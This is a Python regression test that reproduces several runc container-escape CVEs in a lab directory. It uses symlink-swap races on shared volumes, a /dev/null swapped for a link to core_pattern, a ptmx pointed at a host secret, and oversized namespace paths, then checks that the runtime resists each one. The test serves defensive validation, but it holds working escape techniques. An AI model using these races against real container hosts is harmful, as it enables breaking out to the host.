"""Names that change between look and use: an attacker swaps them as fast as it can while containers start."""
from lab import *

ROUNDS = int(os.environ.get("RCON_ROUNDS", "25"))
HOST = WORK + "/outside"
os.makedirs(HOST)


def attacked(make, pairs, runtime=RUNTIME, rounds=ROUNDS):
    """Starts the bundle that `make(index)` gives while the pairs are swapped; the results."""
    results = []
    with Swapper(*pairs):
        for index in range(rounds):
            results.append(make(index).run(runtime))
    return results


def sandbox(name):
    """A shared volume: a directory `real` and a link `link` out of the root, which the attacker swaps."""
    base = f"{WORK}/{name}"
    os.makedirs(base + "/real")
    os.symlink("../" * 12 + HOST.lstrip("/"), base + "/link")
    return base, [(base + "/real", base + "/link")]


def strays():
    return sorted(os.listdir(HOST))


def sweep():
    for name in os.listdir(HOST):
        path = os.path.join(HOST, name)
        shutil.rmtree(path) if os.path.isdir(path) and not os.path.islink(path) else os.remove(path)


# CVE-2021-30465, 2024-45310: the target of a mount lies in a volume that the attacker shares.
MOUNTS = "cat /proc/self/mountinfo; ls / /vol /vol/real 2>/dev/null"
base, pairs = sandbox("shared")
stuff = WORK + "/stuff"
os.makedirs(stuff)
open(stuff + "/mark", "w").close()


def shared(kind):
    def make(index):
        bundle = Bundle("sh", "-c", MOUNTS)
        mount = {"destination": f"/vol/real/{kind}{index}", "type": "tmpfs", "source": "tmpfs"}
        if kind != "tmpfs":
            mount = bind(stuff if kind == "directory" else stuff + "/mark", mount["destination"])
        bundle.config["mounts"] += [bind(base, "/vol"), mount]
        return bundle
    return make


for kind in ("directory", "file", "tmpfs"):
    results = attacked(shared(kind), pairs)
    # A mount that went out of the root is not in the container's own table.
    lost = [str(result) for index, result in enumerate(results) if result.code == 0 and f"/{kind}{index} " not in result.out]
    ours = [line for line in read("/proc/self/mountinfo").splitlines() if HOST in line]
    held("CVE-2021-30465", f"a {kind} is mounted below a name that changes to a link ({ROUNDS} rounds)", not lost and not ours, lost[:1] or ours)
    held("CVE-2024-45310", f"and its mount point is made on the host ({sum(r.code == 0 for r in results)} started)", strays() == [], strays())
    sweep()


def naive():
    """What a runtime without descriptors does: looks where the path leads, then uses the path."""
    path = base + "/real"
    try:
        if os.path.realpath(path).startswith(base):
            os.makedirs(f"{path}/naive{time.monotonic_ns()}")
    except OSError:
        pass
    return strays()


with Swapper(*pairs):
    tried(naive)
control("CVE-2024-45310", "the attacker wins against look-then-use", strays() != [])
sweep()
if RUNC:
    attacked(shared("directory"), pairs, runtime=RUNC, rounds=120)
    peer("CVE-2024-45310", f"runc of this machine made {len(strays())} directories on the host in 120 rounds", strays())
    sweep()

# CVE-2025-31133: the null device that masks are made of, in a root whose /dev the attacker shares.
SECRET = WORK + "/secret"
open(SECRET, "w").write("secret of the host")


def masked(index):
    bundle = Bundle("sh", "-c", "stat -L -c '%t:%T' /proc/keys /proc/kcore /proc/timer_list; head -c 40 /proc/keys")
    bundle.config["mounts"] = [mount for mount in bundle.config["mounts"] if not mount["destination"].startswith("/dev")] + [bind(device, "/dev")]
    return bundle


device = WORK + "/dev"
os.makedirs(device)
os.mknod(device + "/null", 0o666 | 0o020000, os.makedev(1, 3))
os.symlink("/proc/sys/kernel/core_pattern", device + "/swap")
results = attacked(masked, [(device + "/null", device + "/swap")])
bad = [result for result in results if result.code == 0 and not result.out.startswith("1:3\n1:3\n")]
held("CVE-2025-31133", f"/dev/null in the container changes to a link while masks are made ({sum(r.code == 0 for r in results)} started)", not bad, bad[:1])
if RUNC:
    results = attacked(masked, [(device + "/null", device + "/swap")], runtime=RUNC, rounds=60)
    lost = sum(result.code == 0 and not result.out.startswith("1:3\n1:3\n") for result in results)
    peer("CVE-2025-31133", f"runc of this machine masked with something else in {lost} of {sum(r.code == 0 for r in results)} starts", lost)


# The root itself: /dev, /proc and the working directory change to links while the stage works in it.
def rooted(index):
    bundle = Bundle("true")
    bundle.rootfs = root
    bundle.config["root"]["path"] = root
    bundle.config["mounts"] = [mount for mount in bundle.config["mounts"] if mount["destination"] == "/proc"]
    bundle.config["process"]["cwd"] = f"/work/cwd{index}"
    bundle.config["linux"]["devices"] = [{"path": f"/work/node{index}", "type": "c", "major": 1, "minor": 3}]
    bundle.config["linux"]["maskedPaths"] = ["/work/file"]
    return bundle


root = Bundle("true").rootfs
shutil.rmtree(root + "/dev")
os.makedirs(root + "/work")
os.makedirs(root + "/dev")
climb = "../" * 12 + HOST.lstrip("/")
os.symlink(climb, root + "/away")
os.symlink(climb, root + "/away2")
results = attacked(rooted, [(root + "/dev", root + "/away"), (root + "/work", root + "/away2")])
held("CVE-2026-41579", f"/dev and the working directory change to links out of the root ({sum(r.code == 0 for r in results)} started)", strays() == [], strays())
sweep()
for place in ("dev", "work"):
    if os.path.islink(f"{root}/{place}"):
        exchange(f"{root}/{place}", f"{root}/{'away' if place == 'dev' else 'away2'}")

# CVE-2026-41579 without a race: the image's /dev is a link to the host.
for target in (HOST, climb):
    bundle = rooted(0)
    shutil.rmtree(root + "/dev")
    os.symlink(target, root + "/dev")
    result = bundle.run()
    held("CVE-2026-41579", f"the root's /dev is a link to {'the host' if target == HOST else 'the host, climbing'}", strays() == [], f"{result} {strays()}")
    if RUNC and target == HOST:
        bundle.run(RUNC)
        peer("CVE-2026-41579", f"runc of this machine makes {' '.join(strays())} there", strays())
    sweep()
    os.remove(root + "/dev")
    os.makedirs(root + "/dev")

# CVE-2025-52565: the terminal that becomes /dev/console.
bundle = Bundle("true")
bundle.process["terminal"] = True
bundle.config["mounts"] = [mount for mount in bundle.config["mounts"] if mount["destination"] not in ("/dev/pts", "/dev")] + [bind(device, "/dev")]
os.makedirs(device + "/pts", exist_ok=True)
for name, make in [("a file", lambda path: open(path, "w").close()), ("a link to a file of the host", lambda path: os.symlink(SECRET, path)),
                   ("another device", lambda path: os.mknod(path, 0o666 | 0o020000, os.makedev(1, 5)))]:
    path = device + "/pts/ptmx"
    if os.path.lexists(path):
        os.remove(path)
    make(path)
    result = command("script", "-qec", " ".join([*bundle.words(), "run", "-b", bundle.path, bundle.id]), "/dev/null") if bundle.write() is None else None
    held("CVE-2025-52565", f"/dev/pts/ptmx is {name}", result.code != 0 and read(SECRET) == "secret of the host", result)
    bundle.delete()

# CVE-2019-18837: the target of a bind is a link.
for form, target in [("absolute", HOST), ("climbing", climb)]:
    bundle = Bundle("sh", "-c", "ls /way; cat /proc/self/mountinfo")
    os.symlink(target, bundle.rootfs + "/way")
    bundle.config["mounts"].append(bind(stuff, "/way"))
    result = bundle.run()
    held("CVE-2019-18837", f"the target of a bind is a link ({form})", result.out.startswith("mark\n") and strays() == [] and os.path.exists(bundle.rootfs + HOST), result)
    bundle.config["mounts"][-1] = bind(stuff, "/way/deeper")
    result = bundle.run()
    held("CVE-2019-18837", f"the target of a bind is below a link ({form})", result.code == 0 and strays() == [], result)

# CVE-2021-43784: a message to the stage that is longer than its length field.
bundle = Bundle("echo", "started")
bundle.linux["namespaces"].append({"type": "user"})
bundle.linux["uidMappings"] = [{"containerID": index, "hostID": 100000 + index, "size": 1} for index in range(9000)]
bundle.linux["gidMappings"] = bundle.linux["uidMappings"]
result = bundle.run()
held("CVE-2021-43784", "id maps of more than 64 KiB", "started" not in result.out and result.code not in (-1, 0, 101, 134), result)
bundle = Bundle("echo", "started")
bundle.linux["namespaces"][4]["path"] = "/" + "x" * 70000
result = bundle.run()
held("CVE-2021-43784", "a namespace path of more than 64 KiB", "started" not in result.out and result.code not in (-1, 0, 101, 134), result)
finish()
